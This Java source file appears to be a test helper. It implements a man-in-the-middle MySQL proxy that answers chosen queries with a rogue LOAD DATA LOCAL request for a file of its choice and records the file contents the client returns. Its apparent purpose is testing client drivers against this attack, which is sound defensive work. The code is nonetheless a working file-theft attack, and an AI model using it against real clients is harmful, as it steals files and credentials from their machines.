//JAVA 17+

import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Predicate;

/**
 * Forwards between a client and a real server, without TLS, except that it answers some commands with a request of its own, as in LOAD DATA
 * LOCAL, for a file of its choice, and keeps what the client sends then.
 */
final class HostileServer implements AutoCloseable {

    private static final int QUERY = 3;

    private final ServerSocket door = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    private final String host;
    private final int port;
    private final String file;
    private final Predicate<String> victims;
    private final List<String> asked = new CopyOnWriteArrayList<>();
    private final List<String> got = new CopyOnWriteArrayList<>();

    /** @param victims which SQL it answers with that request */
    HostileServer(String host, int port, String file, Predicate<String> victims) throws IOException {
        this.host = host;
        this.port = port;
        this.file = file;
        this.victims = victims;
        start(() -> {
            while (true) {
                Socket client = door.accept();
                Socket server = new Socket(this.host, this.port);
                start(() -> passAnswers(server, client));
                start(() -> passCommands(client, server));
            }
        });
    }

    int port() {
        return door.getLocalPort();
    }

    /** The SQL that it answered with the request. */
    List<String> asked() {
        return asked;
    }

    /** What the client sent in answer, without the empty packet that ends it. */
    List<String> got() {
        return got;
    }

    private void passAnswers(Socket from, Socket to) throws IOException {
        try (from; to) {
            OutputStream out = to.getOutputStream();
            byte[] buffer = new byte[1 << 16];
            for (int read = from.getInputStream().read(buffer); read >= 0; read = from.getInputStream().read(buffer)) {
                out.write(buffer, 0, read);
            }
        }
    }

    private void passCommands(Socket from, Socket to) throws IOException {
        try (from; to) {
            DataInputStream in = new DataInputStream(from.getInputStream());
            boolean waiting = false;
            while (true) {
                byte[] head = in.readNBytes(4);
                if (head.length < 4) {
                    throw new EOFException();
                }
                byte[] payload = in.readNBytes((head[0] & 255) + ((head[1] & 255) << 8) + ((head[2] & 255) << 16));
                // before the SQL may stand the numbers of query attributes, which are zero
                String text = new String(payload, StandardCharsets.UTF_8).replaceFirst("^[\\x00-\\x08]+", "");
                if (waiting && head[3] != 0) {
                    if (payload.length > 0) {
                        got.add(new String(payload, StandardCharsets.UTF_8));
                    } else {
                        send(from, head[3] + 1, new byte[] {0, 0, 0, 2, 0, 0, 0}); // OK
                        waiting = false;
                    }
                } else if (head[3] == 0 && payload.length > 0 && payload[0] == QUERY && victims.test(text)) {
                    waiting = true;
                    asked.add(text);
                    send(from, 1, ("\u00FB" + file).getBytes(StandardCharsets.ISO_8859_1)); // the request for a file
                } else {
                    to.getOutputStream().write(head);
                    to.getOutputStream().write(payload);
                }
            }
        }
    }

    private static void send(Socket client, int number, byte[] payload) throws IOException {
        byte[] packet = new byte[payload.length + 4];
        packet[0] = (byte) payload.length;
        packet[3] = (byte) number;
        System.arraycopy(payload, 0, packet, 4, payload.length);
        client.getOutputStream().write(packet);
        client.getOutputStream().flush();
    }

    private interface Talk {
        void go() throws IOException;
    }

    private static void start(Talk talk) {
        Thread thread = new Thread(() -> {
            try {
                talk.go();
            } catch (EOFException | SocketException e) {
                // the client or the server closed the connection
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        });
        thread.setDaemon(true);
        thread.start();
    }

    @Override
    public void close() throws IOException {
        door.close();
    }
}
